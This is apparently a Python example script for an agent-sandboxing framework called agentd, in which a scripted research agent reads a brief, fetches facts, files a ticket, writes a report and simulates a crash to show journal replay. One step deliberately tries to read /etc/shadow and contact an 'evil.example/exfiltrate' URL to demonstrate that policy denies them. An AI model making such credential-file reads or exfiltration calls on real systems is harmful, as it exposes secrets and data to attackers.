#!/usr/bin/env python3
"""Research agent: the flagship agentd example (no LLM, stdlib only).

    agent.py --service URL --out DIR [--brief PATH] [--use-state] [--no-crash]

Every step goes through agentd: it reads the brief (fs.read), fetches facts
per topic (http.request GET), tries two things its policy forbids, files a
ticket (POST, an `ask` rule), writes a report (fs.write) and checkpoints its
state after each step. On attempt 1 it kills itself right after filing the
ticket; agentd restarts it, the completed calls are replayed from the
journal, and the ticket is not filed twice.
"""

import argparse
import json
import os
import signal
import sys

import agentd


def log(msg):
    print("agent: " + msg, flush=True)


def parse_topics(brief):
    """Topics are the '- item' lines under the '## Topics' heading."""
    topics, in_topics = [], False
    for line in brief.splitlines():
        if line.startswith("## "):
            in_topics = line[3:].strip().lower() == "topics"
        elif in_topics and line.startswith("- "):
            topics.append(line[2:].strip())
    return topics


class Agent:
    def __init__(self, client, opts):
        self.c = client
        self.opts = opts
        self.replayed = 0
        self.live = 0

    def call(self, tool, args):
        res = self.c.call(tool, args)
        if self.c.last_replayed:
            self.replayed += 1
        else:
            self.live += 1
        return res

    def step_read_brief(self, state):
        res = self.call("fs.read", {"path": self.opts.brief})
        state["topics"] = parse_topics(res.get("content", ""))
        log("read brief %s: topics %s%s" % (self.opts.brief, ", ".join(state["topics"]),
                                            self.tag()))

    def step_fetch(self, state):
        state.setdefault("facts", {})
        for topic in state["topics"]:
            if topic in state["facts"]:
                continue
            url = "%s/sources?topic=%s" % (self.opts.service, topic)
            res = self.call("http.request", {"method": "GET", "url": url, "timeout_ms": 5000})
            if res.get("status") != 200:
                log("source for %s answered %s; skipping" % (topic, res.get("status")))
                state["facts"][topic] = []
            else:
                state["facts"][topic] = json.loads(res["body"]).get("facts", [])
                log("fetched %d facts on %s%s" % (len(state["facts"][topic]), topic, self.tag()))
            self.c.checkpoint(state)

    def step_forbidden(self, state):
        """Policy shows its teeth: both of these must be refused."""
        state["denials"] = []
        attempts = [
            ("fs.read", {"path": "/etc/shadow"}),
            ("http.request", {"method": "GET", "url": "http://evil.example/exfiltrate"}),
        ]
        for tool, args in attempts:
            try:
                self.call(tool, args)
                log("UNEXPECTED: %s %s was allowed" % (tool, json.dumps(args)))
                state["denials"].append({"tool": tool, "allowed": True})
            except agentd.Denied as e:
                log("denied %s %s: rule=%s reason=%s" % (tool, args.get("path") or args.get("url"),
                                                         e.rule or "(none)", e.reason))
                state["denials"].append({"tool": tool, "rule": e.rule, "reason": e.reason})

    def step_ticket(self, state):
        nfacts = sum(len(f) for f in state["facts"].values())
        body = json.dumps({"title": "Review research on %d topics (%d facts)"
                                    % (len(state["topics"]), nfacts)})
        try:
            res = self.call("http.request", {
                "method": "POST",
                "url": self.opts.service + "/tickets",
                "headers": {"Content-Type": "application/json"},
                "body": body,
            })
        except agentd.Denied as e:
            log("ticket not filed: rule=%s reason=%s" % (e.rule, e.reason))
            state["ticket"] = None
            return
        ticket = json.loads(res["body"]) if res.get("body") else {}
        state["ticket"] = ticket.get("id")
        log("filed ticket %s (HTTP %s)%s" % (state["ticket"], res.get("status"), self.tag()))

    def step_report(self, state):
        lines = ["# Research report", ""]
        for topic in state["topics"]:
            lines.append("## " + topic)
            lines.extend("- " + f for f in state["facts"].get(topic, []))
            lines.append("")
        lines.append("Follow-up ticket: %s" % (state.get("ticket") or "none"))
        lines.append("Refused by policy: %s" % ", ".join(
            "%s (%s)" % (d["tool"], d.get("rule") or d.get("reason")) for d in state["denials"]))
        path = os.path.join(self.opts.out, "report.md")
        res = self.call("fs.write", {"path": path, "content": "\n".join(lines) + "\n"})
        state["report"] = path
        log("wrote %s (%s bytes)%s" % (path, res.get("bytes"), self.tag()))

    def tag(self):
        return " [replayed]" if self.c.last_replayed else ""


STEPS = ["read_brief", "fetch", "forbidden", "ticket", "report"]


def main():
    ap = argparse.ArgumentParser(description="research agent for agentd")
    ap.add_argument("--service", required=True, help="base URL of the sources service")
    ap.add_argument("--out", required=True, help="host directory for the report")
    ap.add_argument("--brief", default=os.path.join(os.getcwd(), "inputs", "brief.md"))
    ap.add_argument("--use-state", action="store_true",
                    help="resume from the saved state instead of re-executing with replay")
    ap.add_argument("--no-crash", action="store_true", help="do not simulate the crash")
    opts = ap.parse_args()
    opts.service = opts.service.rstrip("/")

    try:
        client = agentd.connect()
    except agentd.Error as e:
        print("agent: %s" % e, file=sys.stderr)
        return 2

    info = client.resume(use_state=opts.use_state)
    attempt = int(info.get("attempt") or os.environ.get("AGENTD_ATTEMPT", "1"))
    state = info.get("state") if opts.use_state and info.get("state") else {"done": []}
    log("run %s attempt %d: %d journaled calls%s" % (
        info.get("run_id"), attempt, info.get("journal_len", 0),
        ", resuming from saved state" if state.get("done") else
        (", re-executing with replay" if info.get("journal_len") else "")))

    agent = Agent(client, opts)
    for name in STEPS:
        if name in state["done"]:
            continue
        getattr(agent, "step_" + name)(state)
        state["done"].append(name)
        client.checkpoint(state)
        if name == "ticket" and attempt == 1 and not opts.no_crash:
            log("simulating a crash right after filing the ticket (SIGKILL)")
            sys.stdout.flush()
            os.kill(os.getpid(), signal.SIGKILL)

    for msg in client.messages():
        log("message from user: %s" % msg.get("text"))
    nfacts = sum(len(f) for f in state["facts"].values())
    log("summary: attempt %d, %d topics, %d facts, %d denials, ticket %s, report %s; "
        "%d calls replayed, %d live" % (attempt, len(state["topics"]), nfacts,
                                        len(state["denials"]), state.get("ticket") or "none",
                                        state.get("report"), agent.replayed, agent.live))
    return 0


if __name__ == "__main__":
    sys.exit(main())
